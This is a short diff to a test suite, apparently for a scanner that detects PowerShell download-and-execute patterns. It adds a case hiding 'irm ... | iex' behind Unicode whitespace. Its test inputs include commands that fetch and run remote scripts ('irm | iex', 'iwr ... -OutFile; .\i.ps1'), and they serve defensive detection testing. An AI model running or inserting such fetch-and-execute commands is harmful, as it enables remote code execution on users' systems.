@@ -164,6 +164,7 @@ describe('the flaws of a script of PowerShell', () => {
     ['iwr https://example.com/i.ps1 -OutFile i.ps1; .\\i.ps1', ['iwr -> `.\\i.ps1`']],
     ['$s = irm https://example.com/i.ps1\niex $s', ['irm -> `iex`']],
     ['# irm https://example.com/i.ps1 | iex', []],
+    ['\uFEFF# Set up\nirm\u00A0https://example.com/i.ps1\v| iex', ['irm -> `iex`']],
     ['<# irm https://example.com | iex #> Get-ChildItem | Sort-Object', []],
     ["Write-Host 'irm https://example.com | iex'", []],
     ['irm https://example.com/data.json | ConvertTo-Json', []],
